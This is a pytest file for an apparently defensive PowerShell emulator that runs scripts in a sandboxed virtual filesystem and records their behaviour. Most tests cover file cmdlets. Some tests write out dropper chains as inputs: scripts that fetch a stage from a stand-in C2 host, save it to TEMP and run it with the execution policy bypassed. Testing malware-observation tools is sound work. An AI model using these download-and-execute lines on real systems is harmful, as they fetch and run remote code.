"""Tests for the virtual filesystem (dropper-chain observability)."""

import pytest

from repro.analysis import observe_behavior
from repro.runtime.errors import BlockedCommandError, EvaluationError
from repro.runtime.evaluator import Evaluator, evaluate_expression_text as ev
from repro.runtime.host import SandboxHost


def make_evaluator(**responses):
    host = SandboxHost(responses=responses)
    return Evaluator(host=host, enforce_blocklist=False)


class TestFileCmdlets:
    def test_out_file_then_get_content(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "'line1' | out-file C:\\t\\a.txt\nget-content C:\\t\\a.txt"
        )
        assert out == ["line1"]

    def test_set_content_value_parameter(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "set-content -Path C:\\x.txt -Value 'data'\n"
            "get-content C:\\x.txt -Raw"
        )
        assert out == ["data"]

    def test_add_content_appends(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "'a' | set-content C:\\l.txt\n"
            "'b' | add-content C:\\l.txt\n"
            "get-content C:\\l.txt -Raw"
        )
        assert out == ["ab"]

    def test_get_content_missing_path(self):
        evaluator = make_evaluator()
        with pytest.raises(EvaluationError):
            evaluator.run_script_text("get-content C:\\missing.txt")

    def test_test_path_reflects_vfs(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "'x' | out-file C:\\here.txt\n"
            "test-path C:\\here.txt\ntest-path C:\\gone.txt"
        )
        assert out == [True, False]

    def test_paths_case_insensitive(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "'x' | out-file C:\\CaSe.TXT\nget-content c:\\case.txt"
        )
        assert out == ["x"]


class TestIoFileStatics:
    def test_write_read_text(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "[IO.File]::WriteAllText('C:\\f.txt', 'hello')\n"
            "[IO.File]::ReadAllText('C:\\f.txt')"
        )
        assert out == ["hello"]

    def test_write_read_bytes(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "[IO.File]::WriteAllBytes('C:\\b.bin', (72,73))\n"
            "[IO.File]::ReadAllBytes('C:\\b.bin')"
        )
        # Byte arrays unroll element-wise in the pipeline, like PS.
        assert out == [72, 73]

    def test_exists_and_delete(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "[IO.File]::WriteAllText('C:\\e.txt', 'x')\n"
            "[IO.File]::Exists('C:\\e.txt')\n"
            "[IO.File]::Delete('C:\\e.txt')\n"
            "[IO.File]::Exists('C:\\e.txt')"
        )
        assert out == [True, False]

    def test_blocked_under_blocklist(self):
        evaluator = Evaluator(enforce_blocklist=True)
        with pytest.raises(BlockedCommandError):
            evaluator.run_script_text(
                "[IO.File]::WriteAllText('C:\\f.txt', 'x')"
            )


class TestDropperChains:
    def test_download_drop_execute(self):
        responses = {
            "https://c2.test/stage.ps1": (
                "(New-Object Net.WebClient)"
                ".DownloadString('https://c2.test/final')"
            )
        }
        script = (
            "$w = New-Object Net.WebClient\n"
            "$w.DownloadFile('https://c2.test/stage.ps1', "
            "\"$env:TEMP\\up.ps1\")\n"
            "powershell -ExecutionPolicy Bypass -File \"$env:TEMP\\up.ps1\""
        )
        report = observe_behavior(script, responses=responses)
        kinds = [e.kind for e in report.effects]
        assert "net.download_file" in kinds
        assert "proc.powershell_file" in kinds
        assert "net.download_string" in kinds  # the second stage fired

    def test_short_f_binds_file(self):
        # ``-f`` is ``-File``: the next argument is a script path, and
        # what follows it is that script's arguments, not inline code.
        report = observe_behavior("powershell -f x.ps1 'write-host hi'")
        assert [e.kind for e in report.effects] == ["proc.powershell_file"]
        assert report.output == []

    def test_invoke_dropped_script_directly(self):
        responses = {"http://x/s.ps1": "write-output 'stage-two ran'"}
        evaluator = make_evaluator(**responses)
        out = evaluator.run_script_text(
            "(New-Object Net.WebClient).DownloadFile('http://x/s.ps1',"
            " 'C:\\drop.ps1')\n"
            "& C:\\drop.ps1"
        )
        assert out == ["stage-two ran"]
        kinds = [e.kind for e in evaluator.host.effects]
        assert "proc.run_script" in kinds

    def test_missing_dropped_script_is_unsupported(self):
        evaluator = make_evaluator()
        from repro.runtime.errors import UnsupportedOperationError

        with pytest.raises(UnsupportedOperationError):
            evaluator.run_script_text("& C:\\never-dropped.ps1")
